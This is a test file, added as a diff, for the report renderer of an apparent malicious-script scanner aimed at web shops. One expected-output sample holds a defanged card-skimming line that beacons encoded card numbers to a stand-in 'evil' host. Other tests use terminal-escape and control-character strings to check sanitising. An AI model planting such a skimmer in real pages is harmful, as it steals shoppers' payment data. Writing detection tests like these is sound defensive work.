@@ -1,0 +1,167 @@
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { widthOf } from '../../../cli/render/fit.ts';
+import { renderReport } from '../../../cli/render/report.ts';
+import {
+  crawlModel,
+  entryOf,
+  evidenceOf,
+  plain80,
+  receiptOf,
+  score,
+  sightingOf,
+  skimmerOf,
+} from './builders.ts';
+
+const suspicious = entryOf({ verdict: 'suspicious', category: 'malware', scores: score(99, 99, 30) });
+
+describe('the text report', () => {
+  it('shows a crawl as table, findings with reasons, totals and receipt', () => {
+    const entries = [entryOf({ sightings: [sightingOf()] }), skimmerOf()];
+    assert.equal(
+      renderReport(crawlModel(entries), { ...plain80, width: 100 }),
+      `shop  http://shop.localhost:4100/
+
+#  VERDICT    CATEGORY  ALL  CARD  MIN  MAL  HOST                    SEEN
+1  malicious  magecart    1     1   98   97  cdn[.]vendor[.]example  /checkout external, +1 page
+   benign                99    99   99   99  shop.localhost:4100     1 script on 1 page
+
+Scores: 1 certainly malicious, 99 certainly not. ALL is the lowest of CARD theft, MINing, MALware.
+Benign rows show the lowest score of their group; --all lists every one.
+
+1. malicious · magecart · score 1
+   hxxp://cdn[.]vendor[.]example/lib.js
+   Seen as external on /checkout, /cart
+   Reads     #card-number
+   Sends to  stats[.]evil[.]example
+
+   critical  The card number is read and sent to another host.  at line 12, column 340
+             │ navigator.sendBeacon("hxxps://stats[.]evil[.]example/c", btoa(card.value))
+
+2 scripts: 1 malicious, 0 suspicious, 1 benign
+
+Receipt: complete, 4.2 s
+  pages    5 visited, 0 failed, 0 left out by the page limit
+  targets  12 attached, 0 failed
+  scripts  61 parsed, 61 read, 0 failed, 3 distinct
+  requests 88, 0 failed, 0 blocked
+  sandbox  full
+`,
+    );
+  });
+
+  it('puts the worst first and numbers findings as the table does', () => {
+    const text = renderReport(crawlModel([suspicious, skimmerOf()]), plain80);
+    assert.match(text, /^1 +malicious[\s\S]*^2 +suspicious[\s\S]*^1\. malicious[\s\S]*^2\. suspicious/m);
+  });
+
+  it('sums benign scripts up by host unless all are asked for', () => {
+    const entries = [1, 2, 3].map(() => entryOf({ sightings: [sightingOf()] }));
+    assert.match(renderReport(crawlModel(entries), plain80), /benign .* 3 scripts on 1 page/);
+    assert.equal(
+      renderReport(crawlModel(entries), { ...plain80, all: true }).match(/^ +benign/gm)?.length,
+      3,
+    );
+  });
+
+  it('shows a flow step by step', () => {
+    const steps = [
+      { message: 'read', location: { line: 1, column: 2 } },
+      { message: 'sent to stats.evil.example' },
+    ];
+    const entry = skimmerOf({ evidence: [evidenceOf({ steps })] });
+    const text = renderReport(crawlModel([entry]), plain80);
+    assert.match(text, /1\. read {2}at line 1, column 2\n +2\. sent to stats\[\.\]evil\[\.\]example\n/);
+  });
+
+  it('tells where in its page inline code speaks', () => {
+    const sightings = [sightingOf({ kind: 'inline', url: null, line: 57, column: 9 })];
+    const at = (line: number, column: number) => evidenceOf({ location: { line, column } });
+    const inline = skimmerOf({ sightings, evidence: [at(1, 3), at(2, 3)] });
+    const text = renderReport(crawlModel([inline]), plain80);
+    assert.match(text, /in the page: line 57, column 11\n/);
+    assert.match(text, /in the page: line 58, column 3\n/);
+  });
+
+  it('says what a crawl did not see', () => {
+    const receipt = receiptOf({
+      complete: false,
+      shortfalls: [{ code: 'target-lost', message: 'A worker went away.', count: 2, blocking: true }],
+    });
+    const model = crawlModel([], receipt);
+    const text = renderReport({ ...model, crawl: { ...model.crawl!, state: 'incomplete' } }, plain80);
+    assert.match(text, /^Receipt: not complete/m);
+    assert.match(text, /! 2 × target-lost: A worker went away\./);
+  });
+
+  it('says when files were not analysed or only in part', () => {
+    const entries = [entryOf({ partial: true, path: 'big.js' })];
+    const text = renderReport({ subject: 'big.js', entries, complete: false }, plain80);
+    assert.match(text, /benign\* .*big\.js[\s\S]*\* a limit cut[\s\S]*Not complete/);
+  });
+
+  it('tells of test data that reached a foreign host', () => {
+    const leak = {
+      visitId: 'v1',
+      field: 'card',
+      url: 'https://e.example/',
+      encoding: 'base64',
+      via: 'image',
+    };
+    const model = crawlModel([]);
+    const canaryLeaks = [
+      { ...leak, host: 'e.example', expected: false },
+      { ...leak, host: 'pay.example', expected: true },
+    ];
+    const text = renderReport({ ...model, crawl: { ...model.crawl!, canaryLeaks } }, plain80);
+    assert.match(text, /Test data leaked: card → e\[\.\]example via image \(base64\)/);
+    assert.doesNotMatch(text, /pay/);
+  });
+
+  it('uses colours only when asked', () => {
+    assert.match(renderReport(crawlModel([skimmerOf()]), { ...plain80, colour: true }), /\x1b\[31mmalicious/);
+    assert.doesNotMatch(renderReport(crawlModel([skimmerOf()]), plain80), /\x1b/);
+  });
+
+  const hostile = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 60 }),
+    fc.constantFrom(
+      '\x1b[2J\x1b]0;x\x07',
+      '\u202egnp.exe',
+      '漢字かな'.repeat(30),
+      'https://a.b/\r\nok',
+      '%s$&',
+    ),
+  );
+
+  it('lets no character from a site reach the terminal raw, and keeps to its width', () => {
+    const check = fc.property(hostile, hostile, fc.integer({ min: 60, max: 140 }), (one, other, width) => {
+      const url = `http://h.example/${one}`;
+      const sightings = [
+        sightingOf({ url, pageUrl: other, initiator: { kind: 'script', url: other } }),
+        sightingOf({ url: other, pageUrl: url, kind: 'inline', line: 3 }),
+      ];
+      const evidence = [
+        evidenceOf({ message: other, snippet: one, field: one, host: other, steps: [{ message: one }] }),
+      ];
+      const bad = skimmerOf({ path: one, sightings, evidence });
+      const unanalysed = entryOf({
+        verdict: 'unanalysed',
+        reason: other,
+        scores: null,
+        sightings,
+        path: other,
+      });
+      const shortfalls = [{ code: 'x', message: one, url: other, count: 1, blocking: false }];
+      const model = {
+        ...crawlModel([bad, unanalysed, entryOf({ sightings })], receiptOf({ shortfalls })),
+        subject: one,
+      };
+      const text = renderReport(model, { ...plain80, width });
+      assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+      const long = text.split('\n').filter((line) => widthOf(line) > width);
+      assert.deepEqual(long, []);
+    });
+    fc.assert(check, { numRuns: 60 });
+  });
+});
